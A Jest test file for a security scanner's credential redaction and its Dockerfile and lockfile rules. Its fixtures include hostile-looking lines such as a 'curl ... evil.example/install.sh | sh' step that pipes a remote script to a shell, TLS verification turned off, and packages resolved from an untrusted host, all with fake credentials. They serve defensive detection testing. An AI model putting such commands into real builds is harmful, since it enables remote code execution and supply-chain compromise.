import { afterEach, describe, expect, test } from '@jest/globals';
import { rmSync } from 'node:fs';
import { annotationCommand, toCheckAnnotation } from '../../src/report/annotations.js';
import { renderJson } from '../../src/report/json.js';
import { renderMarkdown } from '../../src/report/markdown.js';
import { renderSarif } from '../../src/report/sarif.js';
import { summarize } from '../../src/report/summary.js';
import { renderText } from '../../src/report/text.js';
import { redactSecrets } from '../../src/secrets/index.js';
import { scanFiles } from '../helpers/rules.js';

const GH = 'ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';
const NPM = 'npm_abcdefghijklmnopqrstuvwxyz0123456789';
const PW = 'Sup3rS3cretPw';
/** Anything that would let a reader use a credential planted in the fixtures below. */
const LEAK = /ABCDEFGHIJKLM|Sup3rS3cret|npm_[a-z]{6}/;

const roots: string[] = [];
afterEach(() => {
  for (const r of roots.splice(0)) rmSync(r, { recursive: true, force: true });
});

describe('redactSecrets', () => {
  test.each([
    [`curl https://user:${PW}@h.example/x`, 'curl https://user:***@h.example/x'],
    [
      `git clone https://x-access-token:${GH}@github.com/o/r`,
      'git clone https://x-access-token:ghp_…@github.com/o/r',
    ],
    [
      `a@1 https://u:${PW}@e.example/a.tgz#x and http://v:${PW}2@f.example/`,
      'a@1 https://u:***@e.example/a.tgz#x and http://v:***@f.example/',
    ],
    [`-H "Authorization: Bearer ${GH}"`, '-H "Authorization: Bearer ghp_…"'],
    [`token ${NPM} here`, 'token npm_… here'],
    ['AKIAABCDEFGHIJKLMNOP', 'AKIA…'],
  ])('%s', (input, out) => {
    expect(redactSecrets(input)).toBe(out);
  });

  test.each([
    'https://registry.npmjs.org/a/-/a-1.0.0.tgz',
    'https://user@host.example/x',
    'https://user:${TOKEN}@host.example/x',
    'https://user:$TOKEN@host.example/x',
    'FROM node:20@sha256:0123456789abcdef',
    'a@1.0.0 git+ssh://git@github.com/o/r.git#abc',
    'Bearer $TOKEN',
    'npm_ (masked) and ghp_…',
  ])('leaves %s alone', (s) => {
    expect(redactSecrets(s)).toBe(s);
  });

  test('is linear on hostile text', () => {
    const hostile = [
      '://a:'.repeat(200_000),
      '://'.repeat(300_000),
      'Bearer '.repeat(200_000),
      'ghp_'.repeat(200_000),
    ];
    const t0 = performance.now();
    for (const s of hostile) redactSecrets(s);
    expect(performance.now() - t0).toBeLessThan(2000);
  });
});

describe('credentials quoted by any rule never reach an output', () => {
  test('Dockerfile, lockfiles and requirements through every renderer', async () => {
    const res = await scanFiles({
      Dockerfile: [
        'FROM ubuntu:22.04',
        `RUN curl -k https://user:${GH}@evil.example/install.sh | sh`,
        `RUN pip install --extra-index-url https://tok:${PW}2@pypi2.example/simple bar`,
        `RUN git clone https://x-access-token:${GH}@github.com/o/r.git`,
        `RUN wget http://u:${PW}4@files.example/b.tar.gz && tar xf b.tar.gz`,
        `RUN curl -H "Authorization: Bearer ${GH}" https://a.example/x | bash`,
        '',
      ].join('\n'),
      'package.json': '{"dependencies":{"a":"1.0.0"}}',
      'package-lock.json': JSON.stringify({
        name: 'x',
        lockfileVersion: 3,
        packages: {
          '': { dependencies: { a: '1.0.0' } },
          'node_modules/a': {
            version: '1.0.0',
            resolved: `https://u:${PW}15@evil.example/a/-/a-1.0.0.tgz`,
            integrity: 'sha512-AAAA',
          },
        },
      }),
      'requirements.txt': `foo @ https://u:${PW}16@files.example/foo.whl\n--index-url https://u:${PW}17@pypi.example/simple\n`,
      'y/yarn.lock': `# yarn lockfile v1\n\n"a@^1":\n  version "1.0.0"\n  resolved "https://u:${PW}18@evil.example/a.tgz#abc"\n`,
    });
    roots.push(res.root);
    const rules = new Set(res.findings.map((f) => f.ruleId));
    // The rules that used to quote the URL or command still fire, masked.
    for (const id of [
      'dockerfile/remote-script-exec',
      'dockerfile/git-clone-unpinned',
      'dockerfile/tls-verification-disabled',
      'dockerfile/dependency-confusion',
      'lockfile/untrusted-host',
    ])
      expect(rules).toContain(id);
    const summary = summarize(res.findings, 'high', res.stats.filesChecked);
    const outputs = [
      renderText(res.findings, summary, { color: false }),
      renderJson(res.findings, summary),
      renderSarif(res.findings),
      renderMarkdown(res.findings, summary),
      ...res.findings.map(annotationCommand),
      ...res.findings.map((f) => JSON.stringify(toCheckAnnotation(f))),
    ];
    for (const out of outputs) expect(out).not.toMatch(LEAK);
    expect(renderJson(res.findings, summary)).toContain('https://user:ghp_…@evil.example/install.sh');
  });
});
